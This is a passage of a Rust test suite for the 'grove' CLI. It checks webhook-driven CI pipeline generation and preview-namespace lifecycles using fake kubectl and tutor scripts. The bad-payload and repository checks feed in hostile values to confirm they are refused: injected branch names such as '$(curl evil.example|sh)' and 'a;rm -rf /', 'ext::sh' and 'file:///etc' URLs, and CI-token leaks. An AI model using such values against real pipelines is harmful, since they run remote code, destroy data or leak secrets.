//! Webhook pipelines and preview instances through the `grove` binary (`golden.rs` checks every
//! payload of `tests/webhooks/` against its reviewed pipeline and plan): bad payloads, and the
//! preview lifecycle with fake `kubectl` and `tutor` executables that record their argv.

mod common;

use common::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// [`webhook_cluster`] with a folder store of its own, for running the preview commands.
fn webhook_cluster_with_store() -> (PathBuf, PathBuf) {
    let root = webhook_cluster();
    let store = folder_store(&root);
    (root, store)
}

#[test]
fn the_payload_comes_from_trigger_payload_when_not_given() {
    let root = webhook_cluster();
    let out = scratch("trigger-payload").join("pipeline.yml");
    let payload = project().join("tests/webhooks/github-pr-opened.json");
    let run = Command::new(env!("CARGO_BIN_EXE_grove"))
        .arg("--root")
        .arg(&root)
        .args(["webhookpipeline", "--output"])
        .arg(&out)
        .env("TRIGGER_PAYLOAD", &payload)
        .env_remove("GROVE_ROOT")
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", describe(&run));
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        golden("webhooks/github-pr-opened.yml")
    );
    let missing = Command::new(env!("CARGO_BIN_EXE_grove"))
        .arg("--root")
        .arg(&root)
        .args(["webhookpipeline", "--output"])
        .arg(&out)
        .env_remove("TRIGGER_PAYLOAD")
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(2), "{}", describe(&missing));
}

#[test]
fn a_cluster_push_is_byte_identical_to_its_head_commit_title() {
    let root = webhook_cluster();
    let dir = scratch("cluster-push");
    let payload = project().join("tests/webhooks/gitlab-push-cluster.json");
    let body: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&payload).unwrap()).unwrap();
    let title = body["commits"][1]["message"]
        .as_str()
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_string();
    assert_eq!(title, "[AutoDeploy][Update] campus|42");
    let (by_hook, by_title) = (dir.join("hook.yml"), dir.join("title.yml"));
    let run = grove(
        &root,
        &[
            "webhookpipeline",
            "--output",
            by_hook.to_str().unwrap(),
            "--payload",
            payload.to_str().unwrap(),
        ],
    );
    assert!(run.status.success(), "{}", describe(&run));
    let run = grove(&root, &["pipeline", &title, by_title.to_str().unwrap()]);
    assert!(run.status.success(), "{}", describe(&run));
    assert_eq!(
        std::fs::read(&by_hook).unwrap(),
        std::fs::read(&by_title).unwrap()
    );
    let hook_plan = grove(
        &root,
        &[
            "plan",
            "--webhook",
            payload.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    let title_plan = grove(&root, &["plan", &title, "--format", "json"]);
    assert_eq!(hook_plan.stdout, title_plan.stdout);
    // The title's golden too: the webhook changes nothing about it.
    assert_eq!(
        std::fs::read_to_string(&by_hook).unwrap(),
        golden("titles/04-update.yml")
    );
}

/// Runs `grove webhookpipeline` on payload `body`; asserts exit 5, `message` on stderr, no
/// panic, and nothing written.
fn check_bad(what: &str, body: &[u8], message: &str) {
    let root = webhook_cluster();
    let dir = scratch("bad-payload");
    let payload = dir.join("payload.json");
    std::fs::write(&payload, body).unwrap();
    let out = dir.join("out").join("pipeline.yml");
    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
    let run = grove(
        &root,
        &[
            "webhookpipeline",
            "--output",
            out.to_str().unwrap(),
            "--payload",
            payload.to_str().unwrap(),
        ],
    );
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(5), "{what}: {}", describe(&run));
    assert!(
        stderr.contains(message),
        "{what}: expected {message:?} in\n{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{what}: {stderr}");
    assert_eq!(
        std::fs::read_dir(out.parent().unwrap()).unwrap().count(),
        0,
        "{what}: something was written"
    );
    let plan = grove(&root, &["plan", "--webhook", payload.to_str().unwrap()]);
    assert_eq!(plan.status.code(), Some(5), "{what}: {}", describe(&plan));
}

/// A fixture with one value replaced at a JSON pointer.
fn with(fixture: &str, pointer: &str, value: serde_json::Value) -> Vec<u8> {
    let path = project().join(format!("tests/webhooks/{fixture}.json"));
    let mut body: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    *body
        .pointer_mut(pointer)
        .unwrap_or_else(|| panic!("{pointer}")) = value;
    serde_json::to_vec(&body).unwrap()
}

/// A fixture with one key removed.
fn without(fixture: &str, parent: &str, key: &str) -> Vec<u8> {
    let path = project().join(format!("tests/webhooks/{fixture}.json"));
    let mut body: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    body.pointer_mut(parent)
        .unwrap()
        .as_object_mut()
        .unwrap()
        .remove(key)
        .unwrap();
    serde_json::to_vec(&body).unwrap()
}

#[test]
fn bad_payloads_give_exit_5_and_name_the_problem() {
    use serde_json::json;
    check_bad("empty", b"", "invalid webhook payload: not JSON");
    check_bad(
        "not JSON",
        b"ref=refs/heads/main&x=1",
        "invalid webhook payload: not JSON",
    );
    check_bad("truncated", b"{\"object_kind\": \"push\", ", "not JSON");
    check_bad("a list", b"[]", "it is a list; expected a JSON object");
    check_bad("not UTF-8", b"{\"ref\": \"\xff\"}", "not UTF-8");
    check_bad(
        "wrong type",
        &with("gitlab-push-cluster", "/ref", json!(42)),
        "`ref` is a number; expected a string",
    );
    check_bad(
        "wrong type deep",
        &with("github-pr-opened", "/pull_request/head/ref", json!(["a"])),
        "`pull_request.head.ref` is a list; expected a string",
    );
    check_bad(
        "wrong type number",
        &with("gitlab-mr-open", "/object_attributes/iid", json!("17")),
        "`object_attributes.iid` is a string; expected a number",
    );
    check_bad(
        "wrong type object",
        &with(
            "github-push-edx-platform",
            "/repository",
            json!("open-craft"),
        ),
        "`repository` is a string; expected an object",
    );
    check_bad(
        "missing field",
        &without("gitlab-mr-open", "/object_attributes", "source_branch"),
        "`object_attributes.source_branch` is missing",
    );
    check_bad(
        "missing field github",
        &without("github-pr-opened", "/pull_request", "base"),
        "`pull_request.base.repo` is missing",
    );
    check_bad(
        "missing field push",
        &without("gitlab-push-cluster", "", "ref"),
        "`ref` is missing",
    );
    let deep = format!(
        "{{\"object_kind\": \"push\", \"x\": {}{}}}",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    check_bad("deep nesting", deep.as_bytes(), "recursion limit exceeded");
    for branch in [
        "feature/$(curl evil.example|sh)",
        "x\"\nevil:\n  script: [id]",
        "a;rm -rf /",
        "`id`",
        "x: {y: z}",
        "--upload-pack=touch",
        "${CI_JOB_TOKEN}",
    ] {
        check_bad(
            branch,
            &with("github-pr-opened", "/pull_request/head/ref", json!(branch)),
            "invalid webhook payload: the source branch",
        );
        check_bad(
            branch,
            &with(
                "gitlab-mr-open",
                "/object_attributes/source_branch",
                json!(branch),
            ),
            "invalid webhook payload: the source branch",
        );
        check_bad(
            branch,
            &with(
                "github-push-edx-platform",
                "/ref",
                json!(format!("refs/heads/{branch}")),
            ),
            "invalid webhook payload: the pushed branch",
        );
    }
    check_bad(
        "hostile source repository",
        &with(
            "github-pr-opened",
            "/pull_request/head/repo/clone_url",
            json!("https://x.org/$CI_JOB_TOKEN"),
        ),
        "the source repository",
    );
    // A pull request "from the same repository" (the ids agree) whose clone URL is not an
    // https:// URL of the trusted repository is never cloned from, opened or closed.
    for url in [
        "file:///etc",
        "/etc",
        "ext::sh",
        "http://github.com/open-craft/edx-platform.git",
        "git@github.com:open-craft/edx-platform.git",
        "https://evil.example.org/open-craft/edx-platform.git",
    ] {
        for (fixture, pointer) in [
            ("github-pr-opened", "/pull_request/head/repo/clone_url"),
            ("github-pr-merged", "/pull_request/head/repo/clone_url"),
            ("gitlab-mr-open", "/object_attributes/source/git_http_url"),
        ] {
            check_bad(
                &format!("{fixture} from {url}"),
                &with(
                    fixture,
                    pointer,
                    json!(url.replace(
                        "github.com/open-craft",
                        if fixture.starts_with("gitlab") {
                            "gitlab.example.org/opencraft"
                        } else {
                            "github.com/open-craft"
                        }
                    )),
                ),
                "the source repository",
            );
        }
    }
}

/// `grove preview up --repository` builds only from what a trusted repository's webhook could
/// have asked for: an https:// URL of a trusted repository of that kind (or of a fork on its
/// host, when `allow_forks` is true); anything else is exit 5, naming the value, before any
/// call to the cluster or any file is written.
#[test]
fn preview_up_builds_only_from_https_urls_of_trusted_repositories() {
    let root = webhook_cluster();
    let fakes = Fakes::new();
    let up = |root: &Path, kind: &str, repository: &str| {
        fakes.grove(
            root,
            &[
                "preview",
                "up",
                "pr-1-x",
                "--template",
                "staging",
                "--kind",
                kind,
                "--repository",
                repository,
                "--version",
                "main",
                "--host",
                "pr-1-x.preview.example.org",
            ],
        )
    };
    let refused = |run: &Output, what: &str, message: &str| {
        assert_eq!(run.status.code(), Some(5), "{what}: {}", describe(run));
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(
            stderr.starts_with(&format!("error: invalid --repository: {what:?}: {message}")),
            "{what}: {stderr}"
        );
    };
    let https_only = "previews are built only from https:// URLs";
    let not_trusted = "it is not a trusted repository";
    for (kind, url, message) in [
        ("edx-platform", "file:///etc", https_only),
        ("edx-platform", "/etc", https_only),
        ("edx-platform", "ext::sh", https_only),
        (
            "edx-platform",
            "http://github.com/open-craft/edx-platform.git",
            https_only,
        ),
        (
            "edx-platform",
            "git@github.com:open-craft/edx-platform.git",
            https_only,
        ),
        (
            "edx-platform",
            "https://ada@github.com/open-craft/edx-platform.git",
            https_only,
        ),
        ("edx-platform", "https://github.com/", https_only),
        (
            "edx-platform",
            "https://github.com/someone/edx-platform.git",
            not_trusted,
        ),
        (
            "edx-platform",
            "https://github.com/open-craft/example-theme.git",
            not_trusted,
        ),
        (
            "theme",
            "https://github.com/open-craft/edx-platform.git",
            not_trusted,
        ),
    ] {
        refused(&up(&root, kind, url), url, message);
        assert!(
            fakes.take_calls().is_empty(),
            "{url}: the cluster was asked"
        );
        assert!(!root.join("instances/pr-1-x").exists(), "{url}");
    }
    // Any spelling of a trusted repository that is an https:// URL.
    for url in [
        "https://github.com/open-craft/edx-platform.git",
        "https://github.com/Open-Craft/edx-platform",
    ] {
        let run = up(&root, "edx-platform", url);
        assert!(run.status.success(), "{url}: {}", describe(&run));
    }
    // With forks allowed, a fork on the host of a trusted repository of that kind.
    let fork = "https://github.com/ada/edx-platform.git";
    refused(&up(&root, "edx-platform", fork), fork, not_trusted);
    let settings = root.join("grove.yml");
    let text = std::fs::read_to_string(&settings).unwrap();
    assert!(text.contains("    allow_forks: false\n"));
    std::fs::write(
        &settings,
        text.replace("    allow_forks: false\n", "    allow_forks: true\n"),
    )
    .unwrap();
    let run = up(&root, "edx-platform", fork);
    assert!(run.status.success(), "{}", describe(&run));
    let elsewhere = "https://evil.example.org/ada/edx-platform.git";
    refused(
        &up(&root, "edx-platform", elsewhere),
        elsewhere,
        not_trusted,
    );
    refused(
        &up(&root, "edx-platform", "file:///etc"),
        "file:///etc",
        https_only,
    );
}

#[test]
fn a_30_mb_payload_is_refused_before_it_is_read() {
    let root = webhook_cluster();
    let dir = scratch("huge-payload");
    let payload = dir.join("payload.json");
    // A sparse file: 30 MB long, nothing on disk, refused by its size alone.
    let file = std::fs::File::create(&payload).unwrap();
    file.set_len(30 * 1024 * 1024).unwrap();
    let out = dir.join("pipeline.yml");
    let run = grove(
        &root,
        &[
            "webhookpipeline",
            "--output",
            out.to_str().unwrap(),
            "--payload",
            payload.to_str().unwrap(),
        ],
    );
    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
    assert!(
        String::from_utf8_lossy(&run.stderr).contains("the limit is 26214400 (25 MB)"),
        "{}",
        describe(&run)
    );
    assert!(!out.exists());
    // A real 30 MB JSON body too, through the same door.
    let body = format!("{{\"pad\": \"{}\"}}", "x".repeat(30 * 1024 * 1024));
    std::fs::write(&payload, body).unwrap();
    let run = grove(&root, &["plan", "--webhook", payload.to_str().unwrap()]);
    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
}

/// A folder of fake `kubectl` and `tutor` that append their argv (one call a line, arguments
/// separated by tabs) to `calls.log`, and keep namespaces as folders under `namespaces/`.
struct Fakes {
    dir: PathBuf,
}

impl Fakes {
    fn new() -> Fakes {
        let dir = scratch("fakes");
        let bin = dir.join("bin");
        std::fs::create_dir_all(bin.join("../namespaces")).unwrap();
        let record = format!(
            "#!/bin/sh\n{{ printf '%s' \"$(basename \"$0\")\"; for a in \"$@\"; do printf '\\t%s' \"$a\"; done; printf '\\n'; }} >> '{}/calls.log'\n",
            dir.display()
        );
        let kubectl = format!(
            r#"{record}ns='{ns}'
# With a file `lose-answer`, the next change is made but its answer is lost (exit 1).
lose() {{ if [ -e "$ns/../lose-answer" ]; then rm "$ns/../lose-answer"; exit 1; fi; }}
case "$1 $2" in
  "get namespace")
    [ -d "$ns/$3" ] && printf '%s:%s' "$3" "$(cat "$ns/$3/label" 2>/dev/null)"
    exit 0 ;;
  "create -f")
    cat > "$ns/../manifest.yaml"
    name=$(sed -n 's/^  name: //p' "$ns/../manifest.yaml")
    mkdir "$ns/$name" || exit 1
    sed -n 's/^    grove-preview: "\(.*\)"$/\1/p' "$ns/../manifest.yaml" > "$ns/$name/label"
    lose; exit 0 ;;
  "delete namespace") [ -d "$ns/$3" ] || exit 1; rm -rf "$ns/$3"; exit 0 ;;
  "--namespace "*)
    case "$3" in
      get) printf 'lms\ncms\n' ;;
    esac
    exit 0 ;;
esac
echo "fake kubectl: unexpected call" >&2; exit 2
"#,
            ns = dir.join("namespaces").display()
        );
        let tutor = format!("{record}exit 0\n");
        for (name, script) in [("kubectl", kubectl), ("tutor", tutor)] {
            let path = bin.join(name);
            std::fs::write(&path, script).unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Fakes { dir }
    }

    /// Runs grove with the fakes first on PATH.
    fn grove(&self, root: &Path, args: &[&str]) -> Output {
        let path = format!(
            "{}:{}",
            self.dir.join("bin").display(),
            std::env::var("PATH").unwrap_or_default()
        );
        Command::new(env!("CARGO_BIN_EXE_grove"))
            .arg("--root")
            .arg(root)
            .args(args)
            .env_remove("GROVE_ROOT")
            .env("PATH", path)
            .env("NO_COLOR", "1")
            .output()
            .unwrap()
    }

    /// The calls recorded since the last time, each as its argv.
    fn take_calls(&self) -> Vec<Vec<String>> {
        let log = self.dir.join("calls.log");
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        let _ = std::fs::remove_file(&log);
        text.lines()
            .map(|l| l.split('\t').map(str::to_string).collect())
            .collect()
    }

    fn namespaces(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.dir.join("namespaces"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

/// The script lines of the preview job of a generated pipeline, with its variables' values
/// put in, as the job would run them: the argv of each `grove preview` call.
fn preview_calls(yaml: &str) -> Vec<Vec<String>> {
    let pipeline = grove_core::Pipeline::parse(yaml).unwrap();
    let mut calls = Vec::new();
    for job in &pipeline.jobs {
        for line in &job.script {
            let Some(rest) = line.strip_prefix("grove preview ") else {
                continue;
            };
            let mut argv = vec!["preview".to_string()];
            for word in rest.split(' ') {
                let word = word.trim_matches('"');
                let value = match word.strip_prefix('$') {
                    Some(var) => job
                        .variables
                        .iter()
                        .find(|v| v.name == var)
                        .unwrap_or_else(|| panic!("{var} is not a variable of {}", job.name))
                        .value
                        .clone(),
                    None => word.to_string(),
                };
                argv.push(value);
            }
            calls.push(argv);
        }
    }
    calls
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

#[test]
fn the_preview_lifecycle_leaves_nothing_behind() {
    let (root, store) = webhook_cluster_with_store();
    let fakes = Fakes::new();
    let before: Vec<String> = {
        let mut list: Vec<String> = std::fs::read_dir(root.join("instances"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        list.sort();
        list
    };
    let out = scratch("lifecycle").join("pipeline.yml");
    let run_payload = |fixture: &str| -> Vec<Vec<String>> {
        let payload = project().join(format!("tests/webhooks/{fixture}.json"));
        let run = fakes.grove(
            &root,
            &[
                "webhookpipeline",
                "--output",
                out.to_str().unwrap(),
                "--payload",
                payload.to_str().unwrap(),
            ],
        );
        assert!(run.status.success(), "{fixture}: {}", describe(&run));
        preview_calls(&std::fs::read_to_string(&out).unwrap())
    };
    let name = "pr-1234-feature-better-grading-v2-";
    // Opened: the pipeline's preview job calls `grove preview up` (and offers a manual down).
    let mut calls = run_payload("github-pr-opened");
    // Jobs are read back by name: put `up` first.
    calls.sort_by(|a, b| b[1].cmp(&a[1]));
    assert_eq!(calls.len(), 2, "{calls:?}");
    let up = &calls[0];
    assert_eq!(up[..2], strings(&["preview", "up"]));
    assert!(up[2].starts_with(name), "{up:?}");
    let preview = up[2].clone();
    assert_eq!(
        up[3..],
        strings(&[
            "--template",
            "staging",
            "--kind",
            "edx-platform",
            "--repository",
            "https://github.com/open-craft/edx-platform.git",
            "--version",
            "feature/Better-Grading_v2",
            "--host",
            &format!("{preview}.preview.courses.example.org"),
        ])
    );
    assert_eq!(calls[1], strings(&["preview", "down", &preview]));
    let args: Vec<&str> = up.iter().map(String::as_str).collect();
    let run = fakes.grove(&root, &args);
    assert!(run.status.success(), "{}", describe(&run));
    assert_eq!(
        fakes.take_calls(),
        vec![
            strings(&[
                "kubectl",
                "get",
                "namespace",
                &preview,
                "--ignore-not-found",
                "--output",
                "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
            ]),
            strings(&["kubectl", "create", "-f", "-"]),
        ]
    );
    // One call makes the namespace with its label: a retry always finds it whole.
    assert_eq!(
        std::fs::read_to_string(fakes.dir.join("manifest.yaml")).unwrap(),
        format!("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {preview}\n  labels:\n    grove-preview: \"true\"\n")
    );
    let dir = root.join("instances").join(&preview);
    let config = std::fs::read_to_string(dir.join("config.yml")).unwrap();
    assert!(
        config.contains(&format!("K8S_NAMESPACE: \"{preview}\"\n")),
        "{config}"
    );
    assert!(
        config.contains("EDX_PLATFORM_VERSION: \"feature/Better-Grading_v2\"\n"),
        "{config}"
    );
    assert!(config.contains("PLATFORM_NAME: \"Staging\"\n"), "{config}");
    assert!(!config.contains("staging.courses.example.org"), "{config}");
    assert_eq!(fakes.namespaces(), vec![preview.clone()]);

    // Synchronized: the same preview, updated in place; the venv is kept.
    std::fs::create_dir_all(dir.join(".venv/bin")).unwrap();
    let calls = run_payload("github-pr-synchronize");
    assert!(calls.contains(up), "an update asks for the same preview");
    let run = fakes.grove(&root, &args);
    assert!(run.status.success(), "{}", describe(&run));
    assert_eq!(
        fakes.take_calls(),
        vec![strings(&[
            "kubectl",
            "get",
            "namespace",
            &preview,
            "--ignore-not-found",
            "--output",
            "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
        ])]
    );
    assert!(dir.join(".venv/bin").is_dir());
    assert_eq!(
        std::fs::read_to_string(dir.join("config.yml")).unwrap(),
        config
    );

    // The preview's state in the store (as its prepare keeps it) goes with it; the other
    // instances' stays.
    let config = format!("ID: preview-secret\nK8S_NAMESPACE: {preview}\n");
    stored_generation(
        &store,
        &preview,
        2,
        &[("config.yml", &config), ("env/apps/lms.env.yml", "x\n")],
    );
    stored_generation(
        &store,
        "campus",
        1,
        &[("config.yml", "K8S_NAMESPACE: campus\n")],
    );
    let kept = [
        "campus/generations/00000001-0123abcd.json",
        "campus/generations/00000001-0123abcd/config.yml",
        "campus/manifest.json",
    ];

    // Merged: the pipeline's only job calls `grove preview down`.
    let calls = run_payload("github-pr-merged");
    assert_eq!(calls, vec![strings(&["preview", "down", &preview])]);
    let run = fakes.grove(&root, &["preview", "down", &preview]);
    assert!(run.status.success(), "{}", describe(&run));
    let get = strings(&[
        "kubectl",
        "get",
        "namespace",
        &preview,
        "--ignore-not-found",
        "--output",
        "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
    ]);
    assert_eq!(
        fakes.take_calls(),
        vec![
            get.clone(),
            strings(&[
                "kubectl",
                "get",
                "namespace",
                &preview,
                "--ignore-not-found",
                "--output",
                "name",
            ]),
            strings(&[
                "kubectl",
                "--namespace",
                &preview,
                "get",
                "deployments",
                "--output",
                "jsonpath={range .items[?(@.spec.replicas>0)]}{.metadata.name}{\"\\n\"}{end}",
            ]),
            strings(&[
                "kubectl",
                "--namespace",
                &preview,
                "scale",
                "--replicas=0",
                "deployment/lms",
                "deployment/cms",
            ]),
            strings(&["kubectl", "delete", "namespace", &preview, "--wait=true"]),
        ]
    );
    // Nothing is left: no folder, no namespace, no staging folder; Tutor was never run.
    let mut after: Vec<String> = std::fs::read_dir(root.join("instances"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    after.sort();
    assert_eq!(after, before);
    assert!(fakes.namespaces().is_empty());
    assert!(!store.join(&preview).exists());
    assert_eq!(
        tree(&store).keys().map(String::as_str).collect::<Vec<_>>(),
        kept
    );

    // Closed again (or a second stop): already gone is success, and asks only once.
    let run = fakes.grove(&root, &["preview", "down", &preview]);
    assert!(run.status.success(), "{}", describe(&run));
    assert!(String::from_utf8_lossy(&run.stderr).contains("already gone"));
    assert_eq!(fakes.take_calls(), vec![get]);
}

#[test]
fn previews_never_touch_what_is_not_a_preview() {
    let root = webhook_cluster();
    let fakes = Fakes::new();
    // A committed instance is not removed, nor overwritten.
    let run = fakes.grove(&root, &["preview", "down", "campus"]);
    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
    assert!(root.join("instances/campus/config.yml").is_file());
    let up = |name: &str, template: &str| {
        fakes.grove(
            &root,
            &[
                "preview",
                "up",
                name,
                "--template",
                template,
                "--kind",
                "edx-platform",
                "--repository",
                "https://github.com/open-craft/edx-platform.git",
                "--version",
                "main",
                "--host",
                "x.preview.example.org",
            ],
        )
    };
    let run = up("campus", "staging");
    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
    // A missing template is "no such instance".
    let run = up("pr-1-x", "nowhere");
    assert_eq!(run.status.code(), Some(3), "{}", describe(&run));
    // A namespace that is not labelled a preview is left alone (exit 4), up or down.
    std::fs::create_dir_all(fakes.dir.join("namespaces/pr-2-x")).unwrap();
    let run = up("pr-2-x", "staging");
    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
    assert!(!root.join("instances/pr-2-x").exists());
    let run = fakes.grove(&root, &["preview", "down", "pr-2-x"]);
    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
    assert_eq!(fakes.namespaces(), ["pr-2-x"]);
    // Bad values on the command line are exit 5.
    let run = fakes.grove(
        &root,
        &[
            "preview",
            "up",
            "pr-3-x",
            "--template",
            "staging",
            "--kind",
            "theme",
            "--repository",
            "https://x.org/$CI_JOB_TOKEN",
            "--version",
            "main",
            "--host",
            "x.org",
        ],
    );
    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
}

/// The call that creates a preview's namespace succeeds but its answer is lost (a dropped
/// connection): `preview up` fails (exit 1), and the next `preview up` finds the namespace
/// labelled and goes on, as does `preview down`: it never ends "not labelled" for good.
#[test]
fn a_preview_whose_namespace_call_lost_its_answer_converges_on_a_retry() {
    let (root, _store) = webhook_cluster_with_store();
    let fakes = Fakes::new();
    let up = || {
        fakes.grove(
            &root,
            &[
                "preview",
                "up",
                "pr-9-x",
                "--template",
                "staging",
                "--kind",
                "edx-platform",
                "--repository",
                "https://github.com/open-craft/edx-platform.git",
                "--version",
                "main",
                "--host",
                "pr-9-x.preview.example.org",
            ],
        )
    };
    std::fs::write(fakes.dir.join("lose-answer"), "").unwrap();
    let run = up();
    assert_eq!(run.status.code(), Some(1), "{}", describe(&run));
    assert_eq!(fakes.namespaces(), ["pr-9-x"]);
    let run = up();
    assert!(run.status.success(), "{}", describe(&run));
    assert_eq!(
        std::fs::read_to_string(fakes.dir.join("namespaces/pr-9-x/label")).unwrap(),
        "true\n"
    );
    assert!(root.join("instances/pr-9-x/config.yml").is_file());
    let run = fakes.grove(&root, &["preview", "down", "pr-9-x"]);
    assert!(run.status.success(), "{}", describe(&run));
    assert!(fakes.namespaces().is_empty());
    assert!(!root.join("instances/pr-9-x").exists());
}

/// The preview `grove plan --webhook PAYLOAD --format json` plans, which must succeed.
fn planned_preview(root: &Path, payload: &Path) -> serde_json::Value {
    let run = grove(
        root,
        &[
            "plan",
            "--webhook",
            payload.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert!(run.status.success(), "{}", describe(&run));
    let mut plan: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    plan["preview"].take()
}

#[test]
fn two_pull_requests_on_similar_long_branches_get_different_previews() {
    let root = webhook_cluster();
    let branch = "feature/improve-the-grading-of-very-long-courses-with-many-subsections";
    let mut names = Vec::new();
    for (number, branch) in [
        (1300, format!("{branch}-part-1")),
        (1301, format!("{branch}-part-2")),
        (1300, format!("{branch}-part-2")),
    ] {
        let dir = scratch("similar");
        let payload = dir.join("payload.json");
        let mut body = with(
            "github-pr-opened",
            "/pull_request/head/ref",
            serde_json::json!(branch),
        );
        let mut value: serde_json::Value = serde_json::from_slice(&body).unwrap();
        value["number"] = serde_json::json!(number);
        body = serde_json::to_vec(&value).unwrap();
        std::fs::write(&payload, body).unwrap();
        let preview = planned_preview(&root, &payload);
        let name = preview["name"].as_str().unwrap().to_string();
        assert!(name.len() <= 49, "{name}");
        assert_eq!(preview["environment"], format!("review/{name}"));
        assert_eq!(
            preview["url"],
            format!("https://{name}.preview.courses.example.org")
        );
        names.push(name);
    }
    assert_ne!(names[0], names[1]);
    assert_ne!(names[0], names[2]);
    assert_ne!(names[1], names[2]);
}

/// A preview is rebuilt from its template in every pipeline of its pull request (each a fresh
/// checkout), yet keeps the secrets its first prepare stored; closing it removes them.
#[test]
fn a_preview_keeps_its_secrets_across_pull_request_updates() {
    let store = scratch("preview-state-store");
    let fakes = Fakes::new();
    let preview = "pr-7-fix";
    let up = [
        "preview",
        "up",
        preview,
        "--template",
        "staging",
        "--kind",
        "edx-platform",
        "--repository",
        "https://github.com/open-craft/edx-platform.git",
        "--version",
        "fix",
        "--host",
        "pr-7-fix.preview.example.org",
    ];
    let mut ids = Vec::new();
    let mut last_root = PathBuf::new();
    for _update in 0..2 {
        let root = webhook_cluster();
        set_store(&root, store.to_str().unwrap());
        let run = fakes.grove(&root, &up);
        assert!(run.status.success(), "{}", describe(&run));
        let dir = root.join("instances").join(preview);
        let requirements = std::fs::read_to_string(dir.join("grove-requirements.txt"))
            .unwrap_or_else(|_| {
                std::fs::read_to_string(root.join("defaults/grove-requirements.txt")).unwrap()
            });
        fake_venv(&dir, &requirements, FAKE_TUTOR);
        let run = fakes.grove(&root, &["prepare", preview]);
        assert!(run.status.success(), "{}", describe(&run));
        let config =
            std::fs::read_to_string(root.join(".grove/tutor").join(preview).join("config.yml"))
                .unwrap();
        let id = config
            .lines()
            .find_map(|l| l.strip_prefix("ID: "))
            .expect("Tutor generated an ID")
            .to_string();
        ids.push(id);
        last_root = root;
    }
    assert_eq!(
        ids[0], ids[1],
        "the preview's secrets changed between updates"
    );
    assert!(store.join(preview).join("manifest.json").is_file());
    let run = fakes.grove(&last_root, &["preview", "down", preview]);
    assert!(run.status.success(), "{}", describe(&run));
    assert!(
        !store.join(preview).exists(),
        "the preview's state is left in the store"
    );
}

/// Two trusted repositories with the same preview prefix would give PR #5 on `fix` of each the
/// same preview, `pr-5-fix`, one overwriting and closing the other's: such a `WEBHOOKS` is
/// refused when grove.yml is read (exit 5, at the entry, whatever is asked), and with a prefix
/// each the two previews differ.
#[test]
fn previews_of_two_repositories_never_share_a_name() {
    let root = webhook_cluster();
    let dir = scratch("preview-names");
    let pull_request = |repository: &str, base: &str| {
        let mut body: serde_json::Value = serde_json::from_slice(&with(
            "github-pr-opened",
            "/pull_request/head/ref",
            serde_json::json!("fix"),
        ))
        .unwrap();
        body["number"] = serde_json::json!(5);
        body["pull_request"]["base"]["ref"] = serde_json::json!(base);
        for pointer in [
            "/repository",
            "/pull_request/base/repo",
            "/pull_request/head/repo",
        ] {
            let repo = body.pointer_mut(pointer).unwrap();
            repo["full_name"] = serde_json::json!(repository);
            repo["clone_url"] = serde_json::json!(format!("https://github.com/{repository}.git"));
        }
        let path = dir.join(format!("{}.json", repository.replace('/', "-")));
        std::fs::write(&path, serde_json::to_vec(&body).unwrap()).unwrap();
        path
    };
    let fork = pull_request("open-craft/edx-platform", "master");
    let upstream = pull_request("openedx/edx-platform", "open-release/sumac.1");
    assert_eq!(planned_preview(&root, &fork)["name"], "pr-5-fix");
    assert_eq!(planned_preview(&root, &upstream)["name"], "up-5-fix");

    // Without its own prefix, openedx/edx-platform would share "pr" with open-craft's.
    let settings = root.join("grove.yml");
    let text = std::fs::read_to_string(&settings).unwrap();
    let entry =
        "      branches: [open-release/sumac.1, open-release/teak.1]\n      preview_prefix: up\n";
    assert!(text.contains(entry));
    // The entry's line: its `url`, where its first key is.
    let line = 1 + text
        .lines()
        .position(|l| l == "    - url: https://github.com/openedx/edx-platform.git")
        .unwrap();
    std::fs::write(
        &settings,
        text.replace(
            entry,
            "      branches: [open-release/sumac.1, open-release/teak.1]\n",
        ),
    )
    .unwrap();
    let expected = format!(
        "error: grove.yml:{line}:7: https://github.com/openedx/edx-platform.git has no preview_prefix (so \"pr\"), as https://github.com/open-craft/edx-platform.git above does: a pull request of each with the same number and branch would get the same preview, so one would overwrite or remove the other's; give each trusted repository its own preview_prefix"
    );
    let out = dir.join("pipeline.yml");
    for args in [
        vec!["plan", "--webhook", upstream.to_str().unwrap()],
        vec![
            "webhookpipeline",
            "--output",
            out.to_str().unwrap(),
            "--payload",
            fork.to_str().unwrap(),
        ],
        vec![
            "pipeline",
            "[AutoDeploy][Update] campus",
